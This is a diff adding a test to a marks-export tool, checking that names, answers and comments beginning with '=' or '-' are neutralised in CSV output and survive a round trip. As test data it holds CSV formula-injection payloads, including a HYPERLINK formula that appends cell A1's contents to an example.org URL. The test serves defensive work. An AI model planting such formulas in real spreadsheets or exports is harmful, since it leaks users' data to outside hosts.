@@ -265,6 +265,19 @@ def test_rows_of_exercises_that_are_not_in_this_run_stay(tmp_path: Path) -> None
     assert [_cell(one).points for one in back.outcomes] == [None, 2.0]
 
 
+def test_signs_within_names_answers_and_comments_run_nowhere_and_come_back() -> None:
+    name, comment = "Eve;=1+1", "Good;\n- but why,\n-1?"
+    report = a_report(name, answer='Because:\n=HYPERLINK("http://example.org/?"&A1;"click")')
+    rows = table(report)
+    rows[0] |= {"points": "1", "comment": comment}
+    once = marks_text(with_marks(report, saved(rows)).report)
+    for row in csv.reader(io.StringIO(once.removeprefix("\ufeff"), newline=""), delimiter=";"):
+        assert not [value for value in row if value.lstrip().startswith(("=", "-"))]
+    again = with_marks(report, once.encode()).report
+    assert marks_of(again) == {name: (1.0, comment)}
+    assert marks_text(again) == once
+
+
 def test_a_mistake_leaves_every_file_as_it_was(tmp_path: Path) -> None:
     report = a_report("ada")
     write_report(report, tmp_path)
